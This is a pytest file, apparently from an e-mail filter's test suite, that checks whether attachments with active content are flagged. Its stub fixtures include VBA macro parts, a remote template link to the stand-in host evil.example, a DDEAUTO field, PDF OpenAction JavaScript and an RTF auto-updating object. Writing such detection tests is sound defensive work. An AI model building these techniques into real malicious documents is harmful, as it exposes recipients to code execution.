"""IN-MACRO: documents that act."""

import pytest

from tests.filters.inbound.arriving import archive, look, mail

CONTENT_TYPES = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docm", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
        ("a.docx", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
        ("a.docx", archive(CONTENT_TYPES | {"word/_rels/settings.xml.rels": b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'})),
        ("a.docx", archive({"[Content_Types].xml": b"x", "word/document.xml": b"<w:instrText>DDEAUTO c:\\x</w:instrText>"})),
        ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        ("a.rtf", b"{\\rtf1 {\\object\\objupdate\\objdata 0105}}"),
        ("a.zip", archive({"b.xlsm": archive({"[Content_Types].xml": b"x", "xl/workbook.xml": b"x", "xl/vbaProject.bin": b"x"})})),
    ],
)  # fmt: skip
def test_a_document_that_acts_is_seen(name: str, content: bytes) -> None:
    assert look("macro", mail(files={name: content}))


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.docx", archive(CONTENT_TYPES)), ("a.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj"), ("a.rtf", b"{\\rtf1 hello}"),
     ("a.docx", b"PK\x03\x04 damaged [Content_Types].xml word/"), ("a.txt", b"DDEAUTO")],
)  # fmt: skip
def test_others_pass_also_damaged_ones(name: str, content: bytes) -> None:
    assert not look("macro", mail(files={name: content}))
